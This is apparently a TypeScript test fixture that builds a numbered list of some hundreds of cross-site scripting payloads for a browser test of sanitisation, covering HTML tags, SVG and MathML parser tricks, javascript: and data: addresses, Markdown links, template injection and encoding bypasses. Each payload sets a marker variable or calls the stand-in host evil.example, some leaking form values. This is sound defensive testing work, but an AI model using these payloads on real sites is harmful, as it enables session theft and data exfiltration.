// Texts that run script or load something elsewhere when a page writes them as more than text: what strangers put into
// messages, names, file names, titles of buttons, addresses, pictures and Markdown. Payload number n, when it works, sets
// `globalThis.__xss` to n or loads `https://evil.example/n`; a browser test looks for both. Nothing here is ever run.

export type XssPlace = "text" | "name" | "fileName" | "buttonTitle" | "url" | "svg" | "markdown";

export interface XssPayload {
  readonly name: string;
  readonly value: string;
  /** The kinds of field the technique is about; every payload may be tried in all of them. */
  readonly where: readonly XssPlace[];
}

/** The script that tells it ran, the address that tells it was loaded, and the number. */
type Write = (run: string, load: string, number: number) => string;
type Draft = readonly [name: string, write: Write];

const shown = ["text", "name", "fileName", "buttonTitle", "markdown"] as const;
const base64 = (text: string): string => Buffer.from(text).toString("base64");
const toEntities = (text: string, write: (code: number) => string): string =>
  Array.from(text, (character) => write(character.codePointAt(0) ?? 0)).join("");
const decimal = (text: string): string => toEntities(text, (code) => `&#${code};`);
const hexadecimal = (text: string): string => toEntities(text, (code) => `&#x${code.toString(16)}`);
const percent = (text: string): string => toEntities(text, (code) => `%${code.toString(16).padStart(2, "0")}`);
const escapes = (text: string): string => toEntities(text, (code) => `\\u${code.toString(16).padStart(4, "0")}`);

const elements: readonly Draft[] = [
  ["script", (run) => `<script>${run}</script>`],
  ["script in capitals", (run) => `<SCRIPT>${run}</SCRIPT>`],
  ["script with a slash in its tag", (run) => `<script/x>${run}</script/x>`],
  ["script that is never closed", (run) => `<script>${run}//`],
  ["script from elsewhere", (_run, load) => `<script src=${load}></script>`],
  ["script from elsewhere without a scheme", (_run, load) => `<script src="${load.slice(6)}"></script>`],
  ["module from elsewhere", (_run, load) => `<script type=module>import "${load}"</script>`],
  ["script within a script that a filter takes out", (run) => `<scr<script>ipt>${run}</scr</script>ipt>`],
  ["tag with a second opening bracket", (run) => `<<script>${run}//<</script>`],
  ["picture that fails", (run) => `<img src=x onerror=${run}>`],
  ["picture that fails, with slashes for spaces", (run) => `<img/src=x/onerror=${run}>`],
  ["picture that fails, in capitals", (run) => `<IMG SRC=x ONERROR="${run}">`],
  ["picture that fails, with new lines between", (run) => `<img\nsrc=x\nonerror\n=\n"${run}">`],
  ["picture that fails, with a form feed between", (run) => `<img\fsrc=x\fonerror="${run}">`],
  ["picture that fails, its handler in entities", (run) => `<img src=x onerror="${decimal(run)}">`],
  ["picture that fails, its handler in short entities", (run) => `<img src=x onerror="${hexadecimal(run)}">`],
  ["picture that fails, its tag never closed", (run) => `<img src=x onerror="${run}" `],
  ["picture with back-ticks for quotes", (run) => `<img src=\`x\` onerror=\`${run}\`>`],
  ["picture that is loaded", (_run, load) => `<img src="${load}">`],
  ["picture with a set of sources", (_run, load) => `<img srcset="${load} 1x, ${load} 2x">`],
  ["picture element", (_run, load) => `<picture><source srcset="${load}"><img></picture>`],
  ["image spelt out", (run) => `<image src=x onerror=${run}>`],
  ["video with a source that fails", (run) => `<video><source onerror="${run}"></video>`],
  ["video with a poster", (_run, load) => `<video poster="${load}"></video>`],
  ["audio that fails", (run) => `<audio src=x onerror=${run}>`],
  ["audio that is loaded", (_run, load) => `<audio src="${load}" autoplay></audio>`],
  ["body that loads", (run) => `<body onload=${run}>`],
  ["details that open", (run) => `<details open ontoggle=${run}><summary>a</summary></details>`],
  ["field that takes the focus", (run) => `<input autofocus onfocus=${run}>`],
  ["choice that takes the focus", (run) => `<select autofocus onfocus=${run}></select>`],
  ["anything that takes the focus", (run) => `<xss id=x tabindex=1 autofocus onfocus=${run}></xss>`],
  ["marquee", (run) => `<marquee onstart=${run}>a</marquee>`],
  [
    "animation that begins",
    (run) => `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${run}">`,
  ],
  ["transition that ends", (run) => `<b style="transition:1s" tabindex=1 autofocus ontransitionend=${run}>a</b>`],
  ["popover", (run) => `<button popovertarget=x>a</button><b popover id=x onbeforetoggle=${run}>b</b>`],
  ["pointer that enters", (run) => `<b onpointerenter=${run} style="position:fixed;inset:0">a</b>`],
  ["content that is skipped", (run) => `<b style="content-visibility:auto" oncontentvisibilityautostatechange=${run}>`],
  ["link to a script", (run) => `<a href="javascript:${run}">a</a>`],
  ["link that tells elsewhere", (_run, load) => `<a href="https://shop.example" ping="${load}">a</a>`],
  ["area to a script", (run) => `<map name=m><area href="javascript:${run}" shape=default></map><img usemap=#m>`],
  ["frame of a script", (run) => `<iframe src="javascript:${run}"></iframe>`],
  [
    "frame of a document of its own",
    (run) => `<iframe srcdoc="&lt;script&gt;parent.${run.slice(11)}&lt;/script&gt;"></iframe>`,
  ],
  ["frame from elsewhere", (_run, load) => `<iframe src="${load}"></iframe>`],
  ["frame of data", (run) => `<iframe src="data:text/html;base64,${base64(`<script>${run}</script>`)}"></iframe>`],
  ["frame set", (run) => `<frameset onload=${run}><frame src="about:blank"></frameset>`],
  ["object of data", (run) => `<object data="data:text/html,<script>${run}</script>"></object>`],
  ["object from elsewhere", (_run, load) => `<object data="${load}" type="text/html"></object>`],
  ["embed of a script", (run) => `<embed src="javascript:${run}">`],
  ["embed from elsewhere", (_run, load) => `<embed src="${load}">`],
  ["applet", (_run, load) => `<applet code=A archive="${load}"></applet>`],
  ["form that sends to a script", (run) => `<form action="javascript:${run}"><button autofocus>a</button></form>`],
  ["button that sends elsewhere", (_run, load) => `<form><button formaction="${load}">a</button></form>`],
  ["form around what follows", (_run, load) => `<form action="${load}"><input name=secret value=`],
  ["base of all addresses", (_run, load) => `<base href="${load}/">`],
  ["refresh to a script", (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`],
  ["refresh to elsewhere", (_run, load) => `<meta http-equiv="refresh" content="0; url=${load}">`],
  ["policy of its own", (_run, load) => `<meta http-equiv="Content-Security-Policy" content="report-uri ${load}">`],
  ["style sheet from elsewhere", (_run, load) => `<link rel=stylesheet href="${load}">`],
  ["prefetch from elsewhere", (_run, load) => `<link rel="dns-prefetch preload" as=image href="${load}">`],
  ["style sheet that imports", (_run, load) => `<style>@import url("${load}");</style>`],
  ["style that loads a picture", (_run, load) => `<b style="background:url(${load})">a</b>`],
  ["style that loads, in escapes", (_run, load) => `<b style="background:\\75\\72\\6c('${load}')">a</b>`],
  ["style that reads secrets", (_run, load) => `<style>input[value^="a"]{background:url(${load}?a)}</style>`],
  ["style of a font", (_run, load) => `<style>@font-face{font-family:x;src:url(${load})}*{font-family:x}</style>`],
  ["style with an expression", (run) => `<b style="width:expression(${run})">a</b>`],
  ["style that covers the page", (_run, load) => `<a href="${load}" style="position:fixed;inset:0;opacity:0">a</a>`],
  ["portal", (_run, load) => `<portal src="${load}"></portal>`],
  ["fenced frame", (_run, load) => `<fencedframe src="${load}"></fencedframe>`],
  ["background of a body", (_run, load) => `<body background="${load}">`],
  ["background of a table", (_run, load) => `<table background="${load}"><tr><td>a</table>`],
  [
    "shadow root that is declared",
    (run) => `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
  ],
  ["element of its own kind", (run) => `<p is="x-parley" onfocus=${run} tabindex=0 autofocus>a</p>`],
];

const foreign: readonly Draft[] = [
  ["drawing that loads", (run) => `<svg onload=${run}>`],
  ["drawing that loads, as a file", (run) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`],
  ["drawing with a script", (run) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`],
  ["drawing with a script in entities", (run) => `<svg><script>${decimal(run)}</script></svg>`],
  [
    "drawing with a script in a section",
    (run) => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${run}]]></script></svg>`,
  ],
  [
    "drawing with a script from elsewhere",
    (_run, load) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="${load}"/></svg>`,
  ],
  [
    "drawing with a foreign object",
    (run) =>
      `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/></foreignObject></svg>`,
  ],
  [
    "drawing that animates an address",
    (run) => `<svg><a><animate attributeName=href values="javascript:${run}"/><text x=9 y=9>a</text></a></svg>`,
  ],
  ["drawing that sets a handler", (run) => `<svg><set attributeName=onmouseover to="${run}"/></svg>`],
  ["drawing whose animation begins", (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`],
  [
    "drawing that uses data",
    (run) =>
      `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${run}"/></svg>`)}#x"/></svg>`,
  ],
  [
    "drawing that uses another",
    (_run, load) => `<svg xmlns="http://www.w3.org/2000/svg"><use href="${load}#x"/></svg>`,
  ],
  ["drawing with a picture", (_run, load) => `<svg xmlns="http://www.w3.org/2000/svg"><image href="${load}"/></svg>`],
  [
    "drawing with a filter",
    (_run, load) => `<svg xmlns="http://www.w3.org/2000/svg"><filter id="f"><feImage href="${load}"/></filter></svg>`,
  ],
  [
    "drawing with a style",
    (_run, load) => `<svg xmlns="http://www.w3.org/2000/svg"><style>@import "${load}";</style></svg>`,
  ],
  [
    "drawing with a declared entity",
    (run) =>
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "${run}">]><svg xmlns="http://www.w3.org/2000/svg"><script>&x;</script></svg>`,
  ],
  [
    "drawing with an outside entity",
    (_run, load) =>
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "${load}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  ],
  [
    "drawing with a style sheet of XML",
    (_run, load) => `<?xml-stylesheet type="text/xsl" href="${load}"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
  ],
  [
    "drawing with a handler of XML",
    (run) =>
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">${run}</handler></svg>`,
  ],
  [
    "formula with a link",
    (run) => `<math><maction actiontype="statusline" xlink:href="javascript:${run}">a</maction></math>`,
  ],
  [
    "formula that is read in another way again",
    (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  ],
  [
    "formula with an annotation",
    (run) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  ],
  ["style that ends in an attribute", (run) => `<svg></p><style><a title="</style><img src=x onerror=${run}>">`],
  ["noscript that ends in an attribute", (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`],
  ["title that ends in an attribute", (run) => `<title><a title="</title><img src=x onerror=${run}>">`],
  [
    "forms within one another",
    (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  ],
  ["comment that ends early", (run) => `<!--><img src=x onerror=${run}>-->`],
  ["comment that ends with a mark", (run) => `<!-- --!><img src=x onerror=${run}> -->`],
  ["section of data in a page", (run) => `<![CDATA[><img src=x onerror=${run}>]]>`],
  ["instruction in a page", (run) => `<?x ?><img src=x onerror=${run}>`],
  ["condition of an older browser", (run) => `<!--[if gte IE 4]><script>${run}</script><![endif]-->`],
];

const addresses: readonly Draft[] = [
  ["script", (run) => `javascript:${run}`],
  ["script in mixed letters", (run) => `JaVaScRiPt:${run}`],
  ["script after a space", (run) => ` javascript:${run}`],
  ["script after a control character", (run) => `\u0001\u001fjavascript:${run}`],
  ["script with a tab inside", (run) => `java\tscript:${run}`],
  ["script with a new line inside", (run) => `java\nscript\r:${run}`],
  ["script with a nul inside", (run) => `java\0script:${run}`],
  ["script in entities", (run) => `${decimal("javascript:")}${run}`],
  ["script in entities without ends", (run) => `${hexadecimal("javascript:")}${run}`],
  ["script with named entities", (run) => `java&Tab;script&colon;${run}`],
  ["script in percent codes", (run) => `${percent("javascript:")}${run}`],
  ["script in percent codes after the scheme", (run) => `javascript:${percent(run)}`],
  ["script in escapes", (run) => `${escapes("javascript:")}${run}`],
  ["script behind a comment", (run) => `javascript://shop.example/%0A${run}`],
  ["script that looks like an address", (run) => `javascript:/*https://shop.example/*/${run}`],
  ["script with a zero-width space", (run) => `java\u200bscript:${run}`],
  ["script with a byte order mark", (run) => `\ufeffjavascript:${run}`],
  ["script in wide letters", (run) => `\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54\uff1a${run}`],
  ["script behind the view of a source", (run) => `view-source:javascript:${run}`],
  ["script behind a feed", (run) => `feed:javascript:${run}`],
  ["script of another language", (run) => `vbscript:Execute("${run}")`],
  ["data as a page", (run) => `data:text/html,<script>${run}</script>`],
  ["data as a page, in base64", (run) => `data:text/html;base64,${base64(`<script>${run}</script>`)}`],
  ["data as a drawing", (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`],
  ["data as a drawing, with a kind that looks harmless", (run) => `data:image/png,text/html,<svg onload=${run}>`],
  ["data in capitals with a space", (run) => `DATA: text/html,<script>${run}</script>`],
  ["data as XML", (run) => `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`],
  ["blob", (_run, load) => `blob:${load}`],
  ["file system", (_run, load) => `filesystem:${load}`],
  ["no scheme", (_run, load) => load.slice(6)],
  ["no scheme, with backslashes", (_run, load) => `\\\\${load.slice(8)}`],
  ["one slash and a backslash", (_run, load) => `/\\${load.slice(8)}`],
  ["backslashes after the scheme", (_run, load) => `https:\\\\${load.slice(8)}`],
  ["clear text", (_run, load) => load.replace("https", "http")],
  ["user info that looks like a host", (_run, load) => `https://shop.example@${load.slice(8)}`],
  ["backslash before user info", (_run, load) => `https://shop.example\\@${load.slice(8)}`],
  ["quote that ends an attribute", (run, load) => `${load}" onmouseover="${run}`],
  ["single quote that ends an attribute", (run, load) => `${load}' autofocus onfocus='${run}`],
  ["bracket that ends a tag", (run, load) => `${load}"><svg onload=${run}>`],
  ["intent", (_run, load) => `intent://${load.slice(8)}#Intent;scheme=https;end`],
  ["mail with more readers", (_run, _load, number) => `mailto:a@shop.example?bcc=${number}@evil.example`],
  ["number that runs a command", () => "tel:*%2306%23"],
];

const markdown: readonly Draft[] = [
  ["link to a script", (run) => `[a](javascript:${run})`],
  ["link to a script in angle brackets", (run) => `[a](<javascript:${run}>)`],
  ["link to a script with a new line", (run) => `[a](java\nscript:${run})`],
  ["link to a script with entities", (run) => `[a](&#106;avascript:${run})`],
  ["link to data", (run) => `[a](data:text/html;base64,${base64(`<script>${run}</script>`)})`],
  ["link whose title ends the attribute", (run, load) => `[a](${load} "x" onmouseover="${run}")`],
  ["link whose address ends the attribute", (run, load) => `[a](${load}"onmouseover="${run})`],
  ["link whose label is a tag", (run, load) => `[<img src=x onerror=${run}>](${load})`],
  ["link whose label ends the link", (run, load) => `[</a><svg onload=${run}>](${load})`],
  ["link without a scheme", (_run, load) => `[a](${load.slice(6)})`],
  ["link that names another host", (_run, load) => `[https://shop.example/](${load})`],
  ["link of a reference", (run) => `[a][b]\n\n[b]: javascript:${run}`],
  ["picture of a reference", (_run, load) => `![a][b]\n\n[b]: ${load}`],
  ["picture that is loaded", (_run, load) => `![a](${load})`],
  ["picture whose words end the attribute", (run) => `![x" onerror="${run}](https://shop.example/x)`],
  ["picture whose address ends the attribute", (run) => `![a](x"onerror="${run})`],
  ["picture of a script", (run) => `![a](javascript:${run})`],
  ["picture in a link to a script", (run, load) => `[![a](${load})](javascript:${run})`],
  ["address in angle brackets", (run) => `<javascript:${run}>`],
  ["address in angle brackets with a handler", (run, load) => `<${load}"onmouseover=${run}>`],
  ["bare address that ends the attribute", (run, load) => `${load}"onmouseover="${run}`],
  ["code whose language ends the attribute", (run) => `\`\`\`"><svg/onload=${run}>\na\n\`\`\``],
  ["code that ends its element", (run) => `\`</code><svg onload=${run}>\``],
  ["fenced code that ends its element", (run) => `\`\`\`\n</code></pre><script>${run}</script>\n\`\`\``],
  ["page in a quote in a list", (run) => `- > <svg onload=${run}>`],
  ["heading with attributes", (run) => `# a {onclick=${run} style="position:fixed"}`],
  ["table with a tag", (run) => `| a |\n|---|\n| <svg onload=${run}> |`],
  ["footnote with a script", (run) => `a[^1]\n\n[^1]: <script>${run}</script>`],
  ["block of HTML", (run) => `<div>\n\n**a**<script>${run}</script>\n\n</div>`],
];

const other: readonly Draft[] = [
  ["double quote that ends an attribute", (run) => `" autofocus onfocus="${run}" x="`],
  ["single quote that ends an attribute", (run) => `' autofocus onfocus='${run}' x='`],
  ["space that ends an attribute without quotes", (run) => `x onmouseover=${run} y=`],
  ["quote and bracket", (run) => `"><img src=x onerror=${run}>`],
  ["back-tick that ends an attribute", (run) => `\`\`onmouseover=${run}`],
  ["end of a text field", (run) => `</textarea><script>${run}</script>`],
  ["end of a title", (run) => `</title><script>${run}</script>`],
  ["end of a style sheet", (run) => `</style><script>${run}</script>`],
  ["end of a script that holds JSON", (run) => `</script><script>${run}</script>`],
  ["end of a script, with a space", (run) => `</script ><svg onload=${run}>`],
  ["comment that swallows the end of a script", (run) => `<!--<script>${run}</script>`],
  ["quote that ends a text of a script", (run) => `";${run};//`],
  ["single quote that ends a text of a script", (run) => `';${run};//`],
  ["backslash before the quote of a script", (run) => `\\";${run};//`],
  ["line separators in a script", (run) => `a\u2028${run}\u2029//`],
  ["new lines in a script", (run) => `a\r\n${run}\n//`],
  ["template of a page", (run) => `{{constructor.constructor('${run}')()}}`],
  ["template of a page, raw", (run) => `{{{"<script>${run}</script>"}}}`],
  ["template of a page, by a filter", (run) => `{{ "<svg onload=${run}>" | raw | safe }}`],
  ["template of a script", (run) => `\${${run}}`],
  ["template of a server", (run) => `<%= "<script>${run}</script>" %>`],
  ["template of a tag", (run) => `{% raw %}<script>${run}</script>{% endraw %}`],
  ["property of a component", (run) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`],
  [
    "node of a virtual tree",
    (run) => `{"type":"img","props":{"src":"x","onError":"${run}"},"__v":1,"constructor":null}`,
  ],
  [
    "directive of a page",
    (run) => `<b x-init="${run}" v-on:click="${run}" ng-init="${run}" hx-on::load="${run}">a</b>`,
  ],
  ["key of a prototype", (run) => `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`],
  ["key of a constructor", (run) => `{"constructor":{"prototype":{"src":"javascript:${run}"}}}`],
  [
    "name that hides a part of the page",
    (run) => `<img name=cookie><form id=chat><input name=attributes></form><a id=config href="javascript:${run}"></a>`,
  ],
  ["names that hide two levels", (run) => `<a id=parley></a><a id=parley name=url href="javascript:${run}"></a>`],
  ["nul within a tag", (run) => `<scr\0ipt>${run}</scr\0ipt>`],
  ["nul before an attribute", (run) => `<img src=x \0onerror=${run}>`],
  ["byte order mark before a tag", (run) => `\ufeff<script>${run}</script>`],
  ["brackets in wide letters", (run) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`],
  ["brackets of another alphabet", (run) => `\u2039script\u203a${run}\u2039/script\u203a`],
  [
    "brackets in bytes that are too long",
    (run) => `\u00c0\u00bcscript\u00c0\u00be${run}\u00c0\u00bc/script\u00c0\u00be`,
  ],
  ["brackets in a code of seven bits", (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`],
  ["brackets in entities", (run) => `&lt;script&gt;${run}&lt;/script&gt;`],
  ["brackets in entities twice", (run) => `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`],
  ["brackets in percent codes", (run) => `%3Cscript%3E${run}%3C/script%3E`],
  ["brackets in percent codes twice", (run) => `%253Cscript%253E${run}%253C/script%253E`],
  ["brackets in escapes", (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`],
  ["half of a character before a tag", (run) => `\ud800<img src=x onerror=${run}>`],
  [
    "letter that grows when it is made lower",
    (run) => `<\u0130mg src=x onerror=${run}><scr\u0131pt>${run}</scr\u0131pt>`,
  ],
  ["direction that is turned", (run) => `\u202e<script>${run}</script>\u202c`],
  ["hidden letters in a tag", (run) => `<scr\u200bipt>${run}</scr\u00adipt>`],
  ["address of a page in the name of a file", (run) => `photo.svg"><script>${run}</script>.png`],
  ["header in the name of a file", (run) => `a.txt"\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`],
  ["kind of a page in the name of a file", (run) => `<img src=x onerror=${run}>.html`],
];

const groups: readonly (readonly [string, readonly XssPlace[], readonly Draft[]])[] = [
  ["element", shown, elements],
  ["foreign", ["svg", ...shown], foreign],
  ["address", ["url"], addresses],
  ["Markdown", ["text", "markdown", "buttonTitle"], markdown],
  ["other", shown, other],
];

const drafts = groups.flatMap(([group, where, list]) => list.map(([name, write]) => ({ group, where, name, write })));

/** Every payload; its number is its place in the list, from 1. */
export const xssPayloads: readonly XssPayload[] = drafts.map(({ group, where, name, write }, index) => ({
  name: `${index + 1}, ${group}: ${name}`,
  value: write(`globalThis.__xss=${index + 1}`, `https://evil.example/${index + 1}`, index + 1),
  where,
}));
